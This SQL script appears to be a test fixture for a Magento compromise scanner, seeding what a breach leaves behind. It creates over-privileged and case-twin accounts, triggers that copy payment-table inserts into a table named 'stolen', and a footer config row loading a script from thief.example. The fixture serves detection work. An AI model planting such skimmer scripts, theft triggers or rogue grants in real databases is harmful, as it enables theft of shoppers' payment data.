-- What an attack leaves, and what is beside it.
CREATE USER shop@localhost IDENTIFIED BY 'x';
GRANT ALL ON shop.* TO shop@localhost;
CREATE USER report@'%' IDENTIFIED BY 'report';
GRANT SELECT ON shop.* TO report@'%';
-- Another account: names of accounts are told apart to the letter.
CREATE USER REPORT@'%' IDENTIFIED BY 'report';
-- What the shop's own has too much of; and one that holds everything that a right is granted beside.
GRANT FILE ON *.* TO shop@localhost;
CREATE ROLE reader;
CREATE USER erp@'%' IDENTIFIED VIA mysql_native_password USING PASSWORD('erp') OR unix_socket REQUIRE SSL
  WITH MAX_QUERIES_PER_HOUR 500 MAX_UPDATES_PER_HOUR 7 MAX_CONNECTIONS_PER_HOUR 8;
GRANT reader TO erp@'%';
SET DEFAULT ROLE reader FOR erp@'%';
GRANT PROXY ON report@'%' TO erp@'%';
GRANT FILE, PROCESS ON *.* TO erp@'%' WITH GRANT OPTION;
GRANT SELECT ON shop.* TO erp@'%';
GRANT UPDATE, UPDATE (title, content), INSERT (content) ON shop.mg_cms_block TO erp@'%' WITH GRANT OPTION;
GRANT INSERT ON shop.mg_cms_page TO erp@'%';
CREATE USER feed@localhost IDENTIFIED BY 'feed';
GRANT SELECT ON shop.* TO feed@localhost;
GRANT DELETE ON `sh%`.* TO feed@localhost;
CREATE TABLE stolen (what text);
SET timestamp = 1700000000.25, sql_mode = 'ANSI_QUOTES,NO_BACKSLASH_ESCAPES', collation_connection = 'utf8mb4_bin';
CREATE DEFINER = report@'%' TRIGGER copy1 AFTER INSERT ON mg_sales_order_payment FOR EACH ROW INSERT INTO stolen VALUES ('first');
CREATE DEFINER = report@'%'  TRIGGER  copy$2 /* ; `' */ AFTER INSERT ON mg_sales_order_payment
  FOR EACH ROW BEGIN INSERT INTO "stolen" VALUES ('a\b;é'); INSERT INTO stolen VALUES (NEW.method); END;
SET character_set_client = gbk;
CREATE TRIGGER wide BEFORE INSERT ON mg_sales_order_payment FOR EACH ROW SET NEW.method = 'a';
SET character_set_client = utf8mb4;
CREATE TRIGGER copy3 AFTER INSERT ON mg_sales_order_payment FOR EACH ROW INSERT INTO stolen VALUES ('last');
SET timestamp = DEFAULT, sql_mode = DEFAULT;
INSERT INTO mg_admin_user (user_id, username, is_active, created, modified) VALUES (7, "Ann O'Neill", 1, '2026-01-02', '2026-02-03'), (8, 'ben', 1, '2026-01-02', '2026-02-03'), (9, 'gone', 0, '2026-01-02', '2026-02-03');
INSERT INTO mg_admin_user_session (user_id, status, updated_at) VALUES (7, 1, '2026-02-03'), (7, 1, '2026-02-03'), (7, 2, '2026-02-03'), (8, 1, '2026-02-03');
INSERT INTO mg_integration (integration_id, name, status, consumer_id, updated_at) VALUES (1, 'ERP & feeds', 1, 4, '2026-02-03'), (2, 'other', 1, 5, '2026-02-03');
INSERT INTO mg_oauth_token (consumer_id, admin_id, type, token, revoked) VALUES (4, NULL, 'access', 'a', 0), (4, NULL, 'verifier', 'b', 0), (5, NULL, 'access', 'c', 0), (NULL, 7, 'access', 'd', 0);
UPDATE mg_core_config_data SET updated_at = '2026-02-03';
INSERT INTO mg_core_config_data (config_id, scope, scope_id, path, value, updated_at) VALUES (90, 'stores', 2, 'payment/hosted/active', '1', '2026-02-03'),
  (91, 'default', 0, 'design/footer/absolute_footer', '<script src="//thief.example"></script>', '2026-02-03'), (92, 'default', 0, 'payment/redirect/title', 'At the gateway', '2026-02-03');
UPDATE mg_cms_block SET content = '<p>é \\ stolen</p>', update_time = '2026-02-03' WHERE block_id = 1;
INSERT INTO mg_customer_entity (entity_id, website_id, email, updated_at, session_cutoff) VALUES (1, 1, 'a@example.com', '2026-02-03', NULL), (2, 2, 'b@example.com', '2026-02-03', NULL),
  (7000, 1, 'c@example.com', '2026-02-03', '2026-01-01'), (7001, 1, 'd@example.com', '2026-02-03', NULL), (2147483000, 1, 'e@example.com', '2026-02-03', NULL);
INSERT INTO mg_cron_schedule (job_code, status, messages, created_at, scheduled_at, executed_at) VALUES
  ('sales_clean_quotes', 'pending', NULL, '2026-02-03', '2026-02-03', NULL), ('sales_clean_quotes', 'running', NULL, '2026-02-02', '2026-02-02', '2026-02-02'),
  ('sales_clean_quotes', 'error', 'held by magewarden', '2026-02-01', '2026-02-01', '2026-02-01'), ('visitor_clean', 'success', NULL, '2026-02-03', '2026-02-03', '2026-02-03');
INSERT INTO mg_queue_poison_pill (version) VALUES ('version-5f0e6d2c1b3a4');
INSERT INTO mg_oauth_consumer (name, secret) VALUES ('ERP', '0:3:c2VjcmV0LW9mLUVSUA=='), ('feeds', 'in the clear');
INSERT INTO mg_tfa_user_config (user_id, encoded_config) VALUES (7, '0:3:c2Vjb25kLWZhY3Rvcg==');
